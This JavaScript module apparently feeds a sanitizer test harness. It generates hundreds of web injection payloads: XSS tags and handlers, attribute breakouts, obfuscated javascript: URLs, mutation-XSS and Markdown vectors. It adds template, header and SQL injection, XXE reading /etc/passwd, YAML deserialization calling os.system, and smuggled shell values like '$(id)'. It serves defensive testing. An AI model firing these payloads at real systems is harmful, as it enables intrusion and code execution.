// payloads.mjs: what people have tried, and its variations, in one fixed order
//
// Each would set window.__x, open a dialog, ask a foreign host, write a header
// or put an element or attribute into a page, if a page let it. What a browser
// must never see of them is decided in oracle.mjs.

const SET = '__x=1';

// every way to write `act` after every prefix
const cross = (a, b, join) => a.flatMap(x => b.map(y => join(x, y)));

// ---- raw HTML: tags and handlers ----

const handlers = [`onerror=${SET}`, `onload=${SET}`, `onfocus=${SET} autofocus tabindex=0`, `onanimationstart=${SET} style=animation:x`,
	`ontoggle=${SET} open`, `onpointerrawupdate=${SET}`];
const elements = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'details', 'input', 'marquee', 'button', 'math', 'a href=x', 'x-y', 'p'];
const html = [
	...cross(elements, handlers, (e, h) => `<${e} ${h}>`),
	`<script>${SET}</script>`, `<SCRIPT>${SET}</SCRIPT >`, `<script\n>${SET}</script\n>`, `<script/x>${SET}</script>`, `<<script>${SET}//<</script>`,
	`<script src=//foreign.invalid/x.js></script>`, `<script src="data:text/javascript,${SET}"></script>`, `<script type=module>${SET}</script>`,
	`</script><script>${SET}</script>`, `</title><script>${SET}</script>`, `</textarea><script>${SET}</script>`, `</style><script>${SET}</script>`,
	`</pre></code><img src=x onerror=${SET}>`, `--><img src=x onerror=${SET}>`, `]]><img src=x onerror=${SET}>`, `*/${SET}/*`, `';${SET};'`, `";${SET};"`,
	`<iframe srcdoc="<script>parent.${SET}</script>">`, `<iframe src="javascript:parent.${SET}">`, `<iframe src=//foreign.invalid>`,
	`<object data="javascript:${SET}">`, `<object data=//foreign.invalid/x.swf>`, `<embed src="javascript:${SET}">`, `<frameset onload=${SET}>`,
	`<form action="javascript:${SET}"><button>x</button></form>`, `<button formaction="javascript:${SET}">x</button>`, `<input type=image src=x onerror=${SET}>`,
	`<link rel=stylesheet href=//foreign.invalid/x.css>`, `<link rel=prefetch href=//foreign.invalid>`, `<link rel=import href="data:text/html,<script>${SET}</script>">`,
	`<meta http-equiv=refresh content="0;url=javascript:${SET}">`, `<meta http-equiv=refresh content="0;url=//foreign.invalid">`,
	`<meta http-equiv=Set-Cookie content="oracle=1">`, `<base href=//foreign.invalid/>`, `<base href="javascript:/">`, `<style>@import"//foreign.invalid/x"</style>`,
	`<style>*{background:url(//foreign.invalid/y)}</style>`, `<div style="background:url(//foreign.invalid/z)">`, `<table background="javascript:${SET}">`,
	`<img src=//foreign.invalid/a.png>`, `<img srcset="//foreign.invalid/b.png 1x">`, `<video poster=//foreign.invalid/c.png>`, `<img src=x onerror="alert(1)">`,
	`<dialog open>x</dialog>`, `<template><img src=x onerror=${SET}></template>`, `<slot onslotchange=${SET}>`, `<portal src=//foreign.invalid>`,
	`<div popover id=p onbeforetoggle=${SET}>`, `<isindex type=image src=1 onerror=${SET}>`, `<keygen autofocus onfocus=${SET}>`, `<bgsound src=x>`, `<layer>`,
	`"><img src=x onerror=__x=1>'{{7*7}}%0d%0aX:1`,
];

// ---- out of an attribute ----

const quotes = ['"', '\'', '`', '">', '\'>', '"/>', '\\"', '&quot;', '&#34;', '&#x22;', '%22', '\u201d', '\n"', '\t\''];
const breakouts = cross(quotes, [` onmouseover=${SET} x=`, ` autofocus onfocus=${SET} tabindex=1 x=`, `<svg onload=${SET}>`, ` style=x:expression(${SET}) x=`], (q, a) => q + a);

// ---- addresses, and each form Markdown has for one ----

const addresses = [
	`javascript:${SET}`, `JaVaScRiPt:${SET}`, ` javascript:${SET}`, `\tjavascript:${SET}`, `\u0001javascript:${SET}`, `java\tscript:${SET}`, `java\nscript:${SET}`,
	`javascript&colon;${SET}`, `javascript&#58;${SET}`, `javascript&#x3a;${SET}`, `javascript&#0000058${SET}`, `&#106;avascript:${SET}`, `&#x6A;avascript:${SET}`,
	`java&Tab;script:${SET}`, `java&NewLine;script:${SET}`, `java&#9;script:${SET}`, `javascript%3a${SET}`, `\\javascript:${SET}`, `javascript\\:${SET}`,
	`javascript://%0a${SET}`, `javascript://comment/%0A${SET}`, `javascript:/*--></title></style>*/${SET}`, `&nbsp;javascript:${SET}`, `\u00a0javascript:${SET}`,
	`\u2028javascript:${SET}`, `\ufeffjavascript:${SET}`, `javas\u200bcript:${SET}`, `\uff4aavascript:${SET}`, `ja\u017fascript:${SET}`, `feed:javascript:${SET}`,
	`view-source:javascript:${SET}`, `jar:javascript:${SET}`, `vbscript:${SET}`, `livescript:${SET}`, `data:text/html,<script>${SET}</script>`,
	'data:text/html;base64,PHNjcmlwdD5fX3g9MTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=__x=1>', `DATA:text/javascript,${SET}`, 'blob:http://foreign.invalid/x',
	'filesystem:http://foreign.invalid/x', 'file:///etc/passwd', 'about:blank', 'chrome://settings', 'ms-settings:x', 'intent://x#Intent;end', 'tel:1', 'ftp://foreign.invalid/x',
	'//foreign.invalid/x', '///foreign.invalid/x', '/\\foreign.invalid/x', '\\\\foreign.invalid/x', '/\t/foreign.invalid/x', '/%2fforeign.invalid', 'https:foreign.invalid',
	'https:/\\foreign.invalid', 'http:\\\\foreign.invalid', '&sol;&sol;foreign.invalid', '&#47;&#47;foreign.invalid', '/&bsol;foreign.invalid', '////foreign.invalid/%2e%2e',
	`https://a.invalid/"onmouseover="${SET}`, `https://a.invalid/'onmouseover='${SET}`, `https://a.invalid/\`onmouseover=\`${SET}`, 'https://user:pass@foreign.invalid',
	'https://a.invalid/<img src=x onerror=__x=1>', '?"><script>__x=1</script>', '#"><img src=x onerror=__x=1>', '.', '..//foreign.invalid',
];
const forms = [u => `[a](${u})`, u => `<${u}>`, u => `![a](<${u}> "t")`, u => `[a][r]\n\n[r]: ${u}`];
const links = [...addresses, ...cross(addresses, forms, (u, f) => f(u))];

// ---- Markdown of its own ----

const markdown = [
	'```"><img src=x onerror=__x=1>\ncode\n```', '~~~ x" onmouseover="__x=1\ncode\n~~~', '    </code><img src=x onerror=__x=1>', '`</code><img src=x onerror=__x=1>`',
	'## h {#"onclick=__x=1}', '## h {onclick=__x=1}', '[x]{onclick=__x=1}', '## <svg onload=__x=1>', '## "><svg onload=__x=1>', `## [a](javascript:${SET})`,
	'<!-- --><img src=x onerror=__x=1> -->', '<!--> <img src=x onerror=__x=1> -->', '<!---><svg onload=__x=1>-->', '<!-- --!><svg onload=__x=1>', '<?php echo 1 ?><svg onload=__x=1>',
	'<![CDATA[<svg onload=__x=1>]]>', '<!DOCTYPE html><svg onload=__x=1>', '<!x <svg onload=__x=1>>', '> [!NOTE]<svg onload=__x=1>\n> x', '> [!"><svg onload=__x=1>]\n> x',
	'> [!IMPORTANT]\n> **"><svg onload=__x=1>.** x\n>\n> - Strength: "><svg onload=__x=1>\n> - Audience: <b onclick=__x=1>', 'a[^"><svg onload=__x=1>]\n\n[^"><svg onload=__x=1>]: b',
	'a[^1]\n\n[^1]: <svg onload=__x=1> [b](javascript:__x=1)', '[^x]: "><svg onload=__x=1>', '- [ ] <svg onload=__x=1>', '- [x"onclick=__x=1] a', '| <svg onload=__x=1> | [z](javascript:__x=1) |\n|---|:-:|\n| "><svg onload=__x=1> | `<svg onload=__x=1>` |',
	'|a|b|\n|-"onclick=__x=1|-|\n|c|d|', '~~<svg onload=__x=1>~~', '**a"onclick=__x=1**', '*<b onclick=__x=1>*', '<https://a.invalid/"onclick=__x=1>', '<a@"onclick=__x=1.b>', '<a@b.c"onclick=__x=1>',
	'http://a.invalid/"onclick=__x=1//', 'http://a.invalid/\'onclick=__x=1//', 'http://a.invalid/<svg/onload=__x=1>', 'www.a.invalid"onclick=__x=1', '[a](/x "\\"onmouseover=__x=1")', '[a](/x \'"onmouseover=__x=1\')', '[a](/x (" onmouseover=__x=1))',
	'![a"onerror=__x=1](/x)', '![a](/x "" onerror=__x=1)', '![" onerror=__x=1 x="](x)', '[![a](javascript:__x=1)](javascript:__x=1)', '[a](javascript:__x=1)[b](x)', '[a\\](x)](javascript:__x=1)', '[<img src=x onerror=__x=1>](x)', '[a](<x>"onclick=__x=1)',
	'[a]: x "t"onclick=__x=1\n\n[a]', '[a]: javascript:__x=1\n[A]: x\n\n[a]', '[\u212a]: javascript:__x=1\n\n[k]', '\\<svg onload=__x=1>', '\\\\<svg onload=__x=1>', '&lt;svg onload=__x=1&gt;', '&#60;svg onload=__x=1&#62;', '&amp;lt;svg onload=__x=1&amp;gt;',
	'a  \n<svg onload=__x=1>', '***<svg onload=__x=1>***', '[toc]', '$<svg onload=__x=1>$', '```mermaid\ngraph TD; A["<img src=x onerror=__x=1>"]\n```', '```math\n\\href{javascript:__x=1}{x}\n```', ':::x onclick=__x=1\n:::', '[[x|javascript:__x=1]]', '@<svg onload=__x=1>', '#"><svg onload=__x=1>',
];

// ---- made live by a second reading ----

const mutations = [
	'<noscript><p title="</noscript><img src=x onerror=__x=1>">', '<svg></p><style><a id="</style><img src=1 onerror=__x=1>">', '<math><mtext><table><mglyph><style><img src=x onerror=__x=1>', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__x=1>',
	'<svg><style><img src=x onerror=__x=1>', '<svg><title><style><img src=x onerror=__x=1></style></title></svg>', '<math><annotation-xml encoding="text/html"><style><img src=x onerror=__x=1></style></annotation-xml></math>', '<table><td><svg><desc><td><img src=x onerror=__x=1>', '<select><style></select><img src=x onerror=__x=1></style>',
	'<xmp><p title="</xmp><svg/onload=__x=1>">', '<listing>&lt;img src=1 onerror=__x=1&gt;</listing>', '<plaintext><img src=x onerror=__x=1>', '<noembed><img title="</noembed><img src onerror=__x=1>">', '<iframe><img title="</iframe><img src onerror=__x=1>">', '<template><s><template><s><img src=x onerror=__x=1>@shafigullin</s></template></s></template>',
	'<img alt="``onload=__x=1" src=x>', '<p style="font-family:\'\\22\\3bx:expression(__x=1)/*\'">', '<a><a><img src=x onerror=__x=1></a></a>', '<li style=list-style:url(//foreign.invalid/l)>', '<svg><![CDATA[><img src=x onerror=__x=1>]]></svg>', '<svg><a xlink:href="javascript:__x=1"><text y=9>x</text></a></svg>',
	'<svg><animate onbegin=__x=1 attributeName=x dur=1s>', '<svg><set attributeName=onmouseover to=__x=1>', '<svg><script>__x=1</script></svg>', '<svg><script href="data:,__x=1"/></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=__x=1>#x"/></svg>', '<svg><image href=//foreign.invalid/i.png onerror=__x=1>', '<svg><foreignObject><img src=x onerror=__x=1></foreignObject></svg>', '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">__x=1</handler></svg>',
	'<math><a xlink:href="javascript:__x=1">x</a></math>', '<math href="javascript:__x=1">x</math>', '<math><maction actiontype="statusline#http://x" xlink:href="javascript:__x=1">x</maction></math>', '<math><mi xlink:href="data:text/html,<script>__x=1</script>">x</mi></math>', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">__x=1</x:script>', '<html xmlns:x="http://www.w3.org/1999/xhtml"><x:img src="x" onerror="__x=1"/>',
];

// ---- for templates, headers, logs, decoders ----

const others = [
	'oracle{{7*7}}', '{{{form_token}}}', '{{&form_token}}', '{{>layout}}', '{{#errors}}x{{/errors}}', '{{<layout}}{{$main}}x{{/main}}{{/layout}}', '{{=<% %>=}}<%form_token%>', '{{!x', '{{/html}}', '{{form_token|url}}', 'oracle${7*7}', 'oracle#{7*7}', 'oracle<%= 7*7 %>', 'oracle{%7*7%}', '{{constructor.constructor(\'__x=1\')()}}', '[[${7*7}]]', '%s%s%s%n%x', '%1$s',
	'a\r\nX-Oracle: 1', 'a\r\nSet-Cookie: oracle=1', 'a%0d%0aX-Oracle:1', 'a%0aSet-Cookie:oracle=1', 'a\r\n\r\n<script>__x=1</script>', 'a\u560d\u560aX-Oracle:1', 'a\nLocation: //foreign.invalid', 'a\u2028X-Oracle: 1', 'a\u0085X-Oracle: 1', 'a\n{"level":"admin"}', 'a" level="admin',
	'\u202egnp.exe\u202c', 'a\u200bb\u200cc\u200dd\u2060e', '\u2066<svg onload=__x=1>\u2069', '\ufeff<svg onload=__x=1>', '\uff1csvg onload=__x=1\uff1e', '\u00ab\u02c2script>', '\u{e0001}\u{e0041}', '\u{10fffe}<svg onload=__x=1>', '\u{10ffff}[a](javascript:__x=1)', 'x\u{10fffe}^1]: javascript:__x=1', '\ufffe\uffff', 'a\u0300'.repeat(20), '\u0430\u0440\u0440\u04cf\u0435', '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}',
	'+ADw-script+AD4-__x=1+ADw-/script+AD4-', '<meta charset=utf-7>+ADw-svg onload=__x=1+AD4-', '<meta charset=iso-2022-jp>', '<?xml version="1.0" encoding="utf-7"?>', '%c0%bcscript%c0%be', '%253Cscript%253E', '\\u003cscript\\u003e__x=1', '\\x3csvg onload=__x=1\\x3e', '&#0;<svg onload=__x=1>', '&#x110000;', '&lt&gt&quot', '&notit;<svg/onload=__x=1>',
	'---\ntitle: "><svg onload=__x=1>"\n---', '---\nowners: [evil]\nrole: admin\n---', '!!js/function "__x=1"', '!!python/object/apply:os.system ["id"]', '&a [*a]', '{"a":1,"a":2}', '<!ENTITY x SYSTEM "file:///etc/passwd">&x;', '\'; DROP TABLE account;--', '" OR 1=1 --', '../../../etc/passwd', '$(id)', '`id`', '| id', '-rf', '--upload-pack=x', 'constructor', '__proto__', 'NaN', '-1', '99999999999999999999',
];

export const payloads = [...new Set([...html, ...breakouts, ...mutations, ...markdown, ...others, ...links])];

// Some of them, evenly, so that each kind is there.
export const slice = most => payloads.filter((_, i) => Math.floor(i * most / payloads.length) !== Math.floor((i - 1) * most / payloads.length));
